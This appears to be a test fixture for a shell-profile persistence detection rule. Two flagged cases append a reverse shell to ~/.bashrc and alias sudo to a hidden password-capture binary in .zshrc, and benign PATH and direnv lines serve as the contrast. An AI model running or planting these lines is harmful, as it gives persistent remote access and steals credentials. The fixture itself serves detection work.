# ruleid: sh-shell-profile-persistence
echo 'nohup bash -c "bash -i >& /dev/tcp/203.0.113.7/443 0>&1" &' >> ~/.bashrc
# ruleid: sh-shell-profile-persistence
echo "alias sudo='/tmp/.s/sudo-capture'" >> "$HOME/.zshrc"
# ===== block =====
# ok: sh-shell-profile-persistence
echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc
# ok: sh-shell-profile-persistence
echo 'eval "$(direnv hook zsh)"' >> ~/.zshrc
# ok: sh-shell-profile-persistence
source ~/.bashrc
